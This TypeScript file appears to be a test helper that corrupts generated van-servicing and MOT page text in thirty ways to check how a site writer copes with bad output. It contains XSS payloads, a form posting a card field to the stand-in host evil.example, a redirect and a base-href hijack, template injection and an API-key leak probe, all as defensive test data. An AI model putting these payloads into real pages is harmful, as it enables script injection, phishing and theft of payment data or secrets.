import type { PlaceText } from "../writer/place-text.ts";

const inParagraph = (text: PlaceText, evil: string): PlaceText => {
  const [first, ...rest] = text.servicing;
  if (!first) return text;
  const [opening = "", ...others] = first.paragraphs;
  return { ...text, servicing: [{ ...first, paragraphs: [`${opening} ${evil}`, ...others] }, ...rest] };
};

const inAnswer = (text: PlaceText, evil: string): PlaceText => ({
  ...text,
  faqs: text.faqs.map((faq, i) => (i === 0 ? { ...faq, answer: `${faq.answer} ${evil}` } : faq)),
});

const everyParagraph = (text: PlaceText, paragraph: string): PlaceText => {
  const say = (sections: PlaceText["mot"]) => sections.map((section) => ({ ...section, paragraphs: [paragraph] }));
  return { ...text, servicing: say(text.servicing), mot: say(text.mot) };
};

const lorem =
  "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et dolore magna aliqua ut enim ad minim veniam.";

type Poison = (text: PlaceText, name: string) => unknown;

/** The thirty bad answers, in the order of the list everyone speaks of: markup, break-outs, oddities, nonsense. */
const poisons: readonly Poison[] = [
  (text) => inParagraph(text, "<script>alert(1)</script>"),
  (text) => inParagraph(text, "<img src=x onerror=alert(1)>"),
  (text) => inParagraph(text, '<a href="javascript:alert(1)">quotes</a>'),
  (text) => inParagraph(text, "<svg/onload=alert(1)>"),
  (text) => inParagraph(text, '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  (text) => inParagraph(text, "<style>*{display:none}</style>"),
  (text) => inParagraph(text, "<base href=//evil.example>"),
  (text) => inParagraph(text, '<meta http-equiv="refresh" content="0;url=//evil.example">'),
  (text) => inParagraph(text, '<form action="//evil.example"><input name="card"></form>'),
  (text) => inAnswer(text, "</script><script>alert(1)</script>"),
  (text) => ({ ...text, servicingMetaTitle: `${text.servicingMetaTitle.slice(0, 30)}" onmouseover="alert(1)` }),
  (text) => ({ ...text, motMetaDescription: `${text.motMetaDescription.slice(0, 90)}\n\u0000and more` }),
  (text) => inAnswer(text, "Line\u2028break and paragraph\u2029break."),
  (text) => inParagraph(text, "\u202egnicivres nav\u202c"),
  (text) => inParagraph(text, "v̷̡̛̖̗a̸̢̧̛̘n̵̨̛̙̜ s̶̡̛̝̞e̷̢̛̟̠ṛ̸̡̛̤v̵̢̛̥̦i̶̧̛̩̪c̷̨̛̫̬ḙ̸̡̛̮"),
  (text) => inParagraph(text, "{{constructor.constructor('alert(1)')()}}"),
  (text) => inParagraph(text, "${process.env.OPENAI_API_KEY}"),
  (text) => inParagraph(text, "See data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== for quotes."),
  (text) => inParagraph(text, "<!-- the rest of the page"),
  (text) => inParagraph(text, "van ".repeat(262_144)),
  () => "",
  () => "   \n  ",
  (text) =>
    everyParagraph(
      text,
      "I'm sorry, but I can't help with writing this text about vans, so nothing of use follows here today for anybody.",
    ),
  (text) => inParagraph(text, "As an AI language model, I have no opinion about garages."),
  (text) => everyParagraph(text, lorem),
  (text) => `\`\`\`json\n${JSON.stringify(text)}\n\`\`\``,
  (text) => ({ ...text, faqs: { question: text.faqs[0]?.question, answer: text.faqs[0]?.answer } }),
  (text) => ({ ...text, faqs: Array.from({ length: 500 }, (_, i) => text.faqs[i % text.faqs.length]) }),
  (text, name) => JSON.stringify(text).replaceAll(name, name === "Timbuktu" ? "Samarkand" : "Timbuktu"),
  (text) => inParagraph(text, "Or try [a cheaper garage](https://rival-garages.example/vans) instead."),
];

export function poisonedText(number: number, text: PlaceText, placeName: string): string {
  const answer = poisons[number - 1]?.(text, placeName) ?? text;
  return typeof answer === "string" ? answer : JSON.stringify(answer);
}
